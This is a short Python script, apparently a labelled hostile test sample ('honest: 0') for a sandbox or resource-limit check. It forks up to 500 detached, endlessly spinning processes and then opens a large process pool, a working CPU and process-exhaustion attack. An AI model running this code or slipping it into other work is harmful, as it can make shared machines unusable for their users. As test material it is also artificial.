# tries: makes as many processes as it can, each of which keeps a core busy
# in: E1
# honest: 0
# stock: no (it would slow the machine down until somebody ends them)
import multiprocessing
import os


def burn():
    os.setsid()
    while True:
        pass


for _ in range(500):
    try:
        if os.fork() == 0:
            burn()
    except OSError:
        break
try:
    with multiprocessing.get_context("fork").Pool(200) as pool:
        pool.map(abs, range(1000))
except Exception:
    pass
